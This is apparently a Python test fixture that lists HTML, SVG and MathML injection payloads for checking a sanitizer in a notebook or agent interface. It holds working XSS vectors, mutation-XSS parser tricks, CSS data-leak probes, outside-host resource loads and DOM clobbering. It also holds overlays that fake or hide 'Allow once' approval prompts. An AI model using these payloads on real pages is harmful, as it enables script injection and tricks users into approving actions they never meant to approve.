"""HTML, SVG and MathML. `@` stands for the address of a server that must never be asked."""

# ruff: noqa: E501, RUF001

HTML = r"""
<script>window.__pwned=1</script>
<script src="@/script.js"></script>
<script src=//@host/script.js></script>
<SCRIPT>window.__pwned=1</SCRIPT>
<script >window.__pwned=1</script >
<script/x>window.__pwned=1</script>
<script type="module">import("@/module.js")</script>
<script type="text/x-mathjax-config">MathJax.Hub.Config({tex2jax:{inlineMath:[["(",")"]]}})</script>
<script>MathJax={tex:{inlineMath:[["(",")"]]}}</script>
<scr<script>ipt>window.__pwned=1</scr</script>ipt>
<img src=x onerror=window.__pwned=1>
<img src="@/img.png">
<img src="x" srcset="@/srcset.png 1x, @/srcset2.png 2x">
<img/src="x"/onerror=window.__pwned=1>
<img src=x onerror="window.__pwned&equals;1">
<IMG SRC="jav&#x09;ascript:window.__pwned=1;">
<img src="x` `<script>window.__pwned=1</script>"` `>
<img longdesc="@/longdesc" lowsrc="@/lowsrc" dynsrc="@/dynsrc">
<img loading=eager src="@/eager.png" style="position:fixed;inset:0">
<image src="@/image.png" onerror=window.__pwned=1>
<picture><source srcset="@/source.png"><img></picture>
<input type=image src="@/input.png" onerror=window.__pwned=1>
<input autofocus onfocus=window.__pwned=1>
<select autofocus onfocus=window.__pwned=1><option>Allow once</option></select>
<textarea autofocus onfocus=window.__pwned=1></textarea>
<keygen autofocus onfocus=window.__pwned=1>
<button onclick=window.__pwned=1>Allow once</button>
<button class="agent-once" data-reply="once">Allow once</button>
<button class="jp-mod-styled" data-commandlinker-command="notebook:restart-run-all">Restart</button>
<button data-commandlinker-command="kernelmenu:shutdown" data-commandlinker-args="{}">Go</button>
<a href="#" data-commandlinker-command="apputils:print">x</a>
<form action="@/form"><button>Send</button></form>
<form id=f action="@/form2"></form><button form=f>Send</button>
<input form=f formaction="@/formaction" type=submit>
<isindex type=image src=1 onerror=window.__pwned=1>
<iframe src="@/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<iframe src="javascript:parent.__pwned=1"></iframe>
<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>
<frameset><frame src="@/frame2"></frameset>
<fencedframe src="@/fenced"></fencedframe>
<portal src="@/portal"></portal>
<object data="@/object"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+"></object>
<object classid="x"><param name=movie value="@/movie"></object>
<embed src="@/embed">
<embed src="data:image/svg+xml,<svg onload=window.__pwned=1>">
<applet code="@/applet.class"></applet>
<video src="@/video" autoplay onerror=window.__pwned=1></video>
<video poster="@/poster.png"></video>
<video><source onerror=window.__pwned=1 src="@/v"></video>
<video><track src="@/track.vtt" default></video>
<audio src="@/audio" autoplay></audio>
<bgsound src="@/bgsound">
<link rel="stylesheet" href="@/style.css">
<link rel="prefetch" href="@/prefetch"><link rel="preload" as="image" href="@/preload">
<link rel="dns-prefetch" href="@/dns"><link rel="preconnect" href="@/connect">
<link rel="import" href="@/import.html">
<link rel="icon" href="@/icon.png">
<link rel="modulepreload" href="@/m.js">
<style>body{background:url(@/style-bg)}</style>
<style>@import "@/import.css";</style>
<style>.agent-ask{display:none!important} .agent-once{opacity:0}</style>
<style>@font-face{font-family:x;src:url(@/font)} *{font-family:x}</style>
<style>input[value^=a]{background:url(@/leak?a)}</style>
<div style="background:url(@/div-bg)">x</div>
<div style="background-image:image-set('@/set.png' 1x)">x</div>
<div style="list-style-image:url(@/list)">x</div>
<div style="content:url(@/content)">x</div>
<div style="cursor:url(@/cursor),auto">x</div>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:white;z-index:99999">x</div>
<div style="position:absolute;inset:-2000px;z-index:2147483647">cover</div>
<div style="margin-top:-900px;height:2000px;background:white">cover</div>
<div style="transform:translateY(-500px) scale(40)">cover</div>
<div style="behavior:url(@/x.htc);-moz-binding:url(@/x.xml#a)">x</div>
<div style="width:expression(window.__pwned=1)">x</div>
<div style="--x:url(@/var);background:var(--x)">x</div>
<div style="color:red;/*" title="*/;background:url(@/comment)">x</div>
<p style="font-size:9999px">huge</p>
<span style="display:none">hidden</span>
<base href="@/base/"><a href="x">x</a>
<meta http-equiv="refresh" content="0;url=@/refresh">
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'">
<meta name="referrer" content="unsafe-url">
<body onload=window.__pwned=1>
<body background="@/body.png">
<html manifest="@/manifest">
<table background="@/table.png"><tr><td background="@/td.png">x</td></tr></table>
<details open ontoggle=window.__pwned=1><summary>x</summary></details>
<details><summary onclick=window.__pwned=1>x</summary></details>
<dialog open onclose=window.__pwned=1><form method=dialog><button>Allow once</button></form></dialog>
<div popover id=p ontoggle=window.__pwned=1>x</div><button popovertarget=p>x</button>
<marquee onstart=window.__pwned=1>x</marquee>
<div onpointerrawupdate=window.__pwned=1 onmouseover=window.__pwned=1>hover</div>
<div oncontentvisibilityautostatechange=window.__pwned=1 style="content-visibility:auto">x</div>
<xss onanimationstart=window.__pwned=1 style="animation:agent-pulse 1s">x</xss>
<p tabindex=1 autofocus onfocus=window.__pwned=1>x</p>
<a href="javascript:window.__pwned=1">x</a>
<a href=" &#14; javascript:window.__pwned=1">x</a>
<a href="jav&NewLine;ascript:window.__pwned=1">x</a>
<a href="@/ping" ping="@/pinged">x</a>
<a href="/api/shutdown" download>x</a>
<a name="__pwned">x</a><img name="jupyterapp"><form id="jupyterapp"><input name=shell></form>
<div id="MathJax"></div><div id="main"></div><div id="jupyter-config-data">{"token":""}</div>
<area shape=rect coords="0,0,999,999" href="javascript:window.__pwned=1"><map name=m></map>
<template shadowrootmode=open><script>window.__pwned=1</script></template>
<div><template shadowrootmode=open><slot></slot><img src="@/shadow"></template></div>
<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>
<title><a title="</title><img src=x onerror=window.__pwned=1>"></title>
<textarea><a title="</textarea><img src=x onerror=window.__pwned=1>"></textarea>
<xmp><a title="</xmp><img src=x onerror=window.__pwned=1>"></xmp>
<noembed><a title="</noembed><img src=x onerror=window.__pwned=1>"></noembed>
<plaintext><img src=x onerror=window.__pwned=1>
<listing>&lt;img src=x onerror=window.__pwned=1&gt;</listing>
<!--><img src=x onerror=window.__pwned=1>-->
<!-- --!><img src=x onerror=window.__pwned=1> -->
<!--[if gte IE 4]><script>window.__pwned=1</script><![endif]-->
<![CDATA[<img src=x onerror=window.__pwned=1>]]>
<?xml-stylesheet href="javascript:window.__pwned=1"?>
<?php <img src=x onerror=window.__pwned=1> ?>
<!DOCTYPE html [<!ENTITY x SYSTEM "@/entity">]>&x;
</pre></code></div></details></summary><img src=x onerror=window.__pwned=1>
</td></tr></table><script>window.__pwned=1</script>
</script><script>window.__pwned=1</script>
"><img src=x onerror=window.__pwned=1>
'><img src=x onerror=window.__pwned=1>
" onmouseover="window.__pwned=1" x="
' onmouseover='window.__pwned=1' x='
" style="position:fixed;inset:0" x="
`><img src=x onerror=window.__pwned=1>
<<script>window.__pwned=1//<</script>
<img src=x onerror=window.__pwned=1//
<p/onclick=window.__pwned=1
&lt;img src=x onerror=window.__pwned=1&gt;
&#60;img src=x onerror=window.__pwned=1&#62;
&amp;lt;script&amp;gt;window.__pwned=1&amp;lt;/script&amp;gt;
\x3cimg src=x onerror=window.__pwned=1\x3e
＜img src=x onerror=window.__pwned=1＞
<ｓcript>window.__pwned=1</ｓcript>
<span data-mime-type="application/javascript">window.__pwned=1</span>
<div class="jp-OutputArea-output jp-RenderedJavaScript">window.__pwned=1</div>
<div class="agent-card agent-ask" role=group aria-label="The agent asks">fake card</div>
<div class="jp-Dialog">fake dialog</div>
<div class="MathJax mjx-container math katex">x</div>
<font face="x" color="red" size="99">big</font><center><blink>x</blink></center>
<ruby>a<rt>b</rt></ruby><bdo dir=rtl>reversed</bdo><bdi>x</bdi>
"""

SVG = r"""
<svg onload=window.__pwned=1>
<svg/onload=window.__pwned=1>
<svg><script>window.__pwned=1</script></svg>
<svg><script href="@/svg.js"/></svg>
<svg><script xlink:href="data:,window.__pwned=1"></script></svg>
<svg><style>*{background:url(@/svg-style)}</style></svg>
<svg><style>@import '@/svg-import';</style></svg>
<svg><image href="@/svg-image"/></svg>
<svg><image xlink:href="@/svg-xlink"/></svg>
<svg><feImage href="@/fe"/></svg>
<svg><filter id=f><feImage xlink:href="@/fe2"/></filter><rect filter="url(#f)"/></svg>
<svg><use href="@/use.svg#x"/></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJ3aW5kb3cuX19wd25lZD0xIi8+#x"/></svg>
<svg><a href="javascript:window.__pwned=1"><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:window.__pwned=1"><rect width=99 height=99 /></a></svg>
<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=window.__pwned=1></svg>
<svg><a><animate attributeName=href values=javascript:window.__pwned=1 /><text y=9>x</text></a></svg>
<svg><animateTransform onbegin=window.__pwned=1 attributeName=transform></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">window.__pwned=1</handler></svg>
<svg><foreignObject><iframe src="@/foreign"></iframe></foreignObject></svg>
<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=window.__pwned=1></foreignObject></svg>
<svg><desc><img src=x onerror=window.__pwned=1></desc></svg>
<svg><title><style><img src=x onerror=window.__pwned=1></style></title></svg>
<svg></p><style><a id="</style><img src=x onerror=window.__pwned=1>">
<svg><p><style><!--</style><img src=x onerror=window.__pwned=1>--></style>
<svg><![CDATA[><img src=x onerror=window.__pwned=1>]]></svg>
<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width=100% height=100% fill=white /></svg>
<svg width=9000 height=9000 overflow=visible><rect x=-4000 y=-4000 width=9000 height=9000 /></svg>
<svg fill="url(@/fill)" stroke="url(@/stroke#a)"><path d="M0 0"/></svg>
<svg><rect style="mask:url(@/mask);clip-path:url(@/clip)"/></svg>
<svg><cursor xlink:href="@/svg-cursor"/></svg>
<svg><pattern><image href="@/pattern"/></pattern><marker><image href="@/marker"/></marker></svg>
<svg><discard onbegin=window.__pwned=1></svg>
<svg><video src="@/svg-video"></video></svg>
<svg xmlns="http://www.w3.org/2000/svg" xml:base="@/"><image href="base.png"/></svg>
"""

MATHML = r"""
<math><maction actiontype="statusline#http://x" xlink:href="javascript:window.__pwned=1">x</maction></math>
<math href="javascript:window.__pwned=1">x</math>
<math><mtext href="javascript:window.__pwned=1">x</mtext></math>
<math><mi xlink:href="@/mi">x</mi></math>
<math><mglyph src="@/mglyph" alt="x"/></math>
<math><mtext><mglyph><style></math><img src=x onerror=window.__pwned=1>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.__pwned=1>">
<math><annotation-xml encoding="text/html"><img src=x onerror=window.__pwned=1></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>window.__pwned=1</script></annotation-xml></math>
<math><semantics><annotation src="@/annotation">x</annotation></semantics></math>
<math><mi style="background:url(@/mi-bg)">x</mi></math>
<math style="position:fixed;inset:0;background:white"><mi>x</mi></math>
<math><mspace width="9999em" height="9999em" mathbackground="white"/></math>
<math><mpadded voffset="-60em" width="0"><mtext mathbackground="white">Allow once</mtext></mpadded></math>
<math><mstyle mathsize="9999px" mathcolor="red"><mi>x</mi></mstyle></math>
<math><mstyle scriptlevel="-99"><mi>x</mi></mstyle></math>
<math><menclose notation="box"><mtext>Always allow</mtext></menclose></math>
<math><mo lspace="-99em" stretchy="true" minsize="9999em">|</mo></math>
<math><mi onclick=window.__pwned=1 class="agent-once" id="jupyterapp">x</mi></math>
<math><style><img src=x onerror=window.__pwned=1></style></math>
<math><mtable><mtr><mtd><img src="@/mtd"></mtd></mtr></mtable></math>
<math><ms><form action="@/ms"><button>go</button></form></ms></math>
<math display="block" altimg="@/altimg"><mi>x</mi></math>
<math><mlabeledtr><mtd><script>window.__pwned=1</script></mtd></mlabeledtr></math>
<math xmlns="http://www.w3.org/1998/Math/MathML"><merror onmouseover="window.__pwned=1">x</merror></math>
"""
